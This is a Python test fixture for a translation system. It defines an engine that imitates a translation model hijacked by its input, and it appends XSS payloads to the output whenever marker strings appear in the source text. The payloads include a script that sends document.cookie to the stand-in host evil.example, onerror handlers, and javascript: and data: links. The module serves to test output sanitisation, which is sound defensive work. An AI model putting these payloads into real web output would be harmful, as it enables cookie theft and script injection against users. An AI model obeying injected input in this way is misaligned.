"""A hijacked engine for the output-check tests: the benchmarks' cost-model engine, except that
a source text containing ``INJECT`` comes back with a ``<script>`` and an ``onerror`` handler
appended (``INJECTMDLINK``: Markdown links to ``javascript:``; ``INJECTENTITY``: an
entity-encoded ``javascript:`` link; ``INJECTDATA``: a ``data:text/html`` link), as a model
talked into it by its input would answer. Workers load it as a plugin::

    MT_ENGINE=tests.integration.injecting_engine:ScriptInjectingEngine  (PYTHONPATH = repo root)
"""

from __future__ import annotations

from collections.abc import Sequence
from typing import Any

from bench.costengine import CostModelEngine
from mtfleet.formats.base import TAG
from mtfleet.workers.engines.base import Done, Translation, TranslationRequest

MARKER = "INJECT"
#: A source containing this comes back with every inline tag dropped (a hard check failure:
#: the protected spans they stand for go missing).
DROP_TAGS = "DROPTAGS"
PAYLOAD = '<script>fetch("//evil.example/"+document.cookie)</script><img src=x onerror=alert(1)>'
#: Other injections, by the marker that asks for them (most specific first).
PAYLOADS = {
    "INJECTMDLINK": "[click](javascript:alert(document.cookie)) ![x](javascript:alert(1))",
    "INJECTENTITY": '<a href="jav&#x61;script:alert(1)">more</a>',
    "INJECTDATA": '<a href="data:text/html,<script>alert(1)</script>">more</a>',
    MARKER: PAYLOAD,
}


def payload_for(text: str) -> str | None:
    return next((p for marker, p in PAYLOADS.items() if marker in text), None)


def _hijack(request: TranslationRequest, out: str | Translation) -> Translation:
    text = out.text if isinstance(out, Translation) else out
    if DROP_TAGS in request.text:
        text = TAG.sub("", text)
    payload = payload_for(request.text)
    return Translation(f"{text} {payload}" if payload else text)


class ScriptInjectingEngine(CostModelEngine):
    name = "injecting"

    def submit(self, request: TranslationRequest, done: Done) -> Any:
        def hijacked(out: str | Translation | BaseException) -> None:
            done(out if isinstance(out, BaseException) else _hijack(request, out))

        return super().submit(request, hijacked)

    def translate(self, requests: Sequence[TranslationRequest]) -> list[Translation]:
        outs = super().translate(requests)
        return [_hijack(r, o) for r, o in zip(requests, outs, strict=True)]
